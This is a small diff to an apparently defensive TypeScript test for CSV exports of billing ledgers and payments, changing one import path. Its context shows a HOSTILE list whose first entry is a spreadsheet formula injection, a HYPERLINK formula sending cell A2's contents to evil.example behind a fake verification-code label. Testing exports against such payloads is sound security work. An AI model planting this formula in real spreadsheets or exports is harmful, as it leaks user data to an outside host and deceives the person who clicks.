@@ -7,7 +7,7 @@ import { tablesOf } from '../../../../worker/privacy/export/tables';
 import { LEDGER_COLUMNS } from '../../../../worker/billing/ledger/ledger-csv';
 import type { StatementLine } from '../../../../worker/billing/ledger/statement.service';
 import { PAYMENT_COLUMNS } from '../../../../worker/billing/payments/payments-csv';
-import type { Payment } from '../../../../worker/billing/payments/records';
+import type { Payment } from '../../../../worker/billing/payments/payment-records';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?d="&A2,"Your code is 123456")\nThanks',
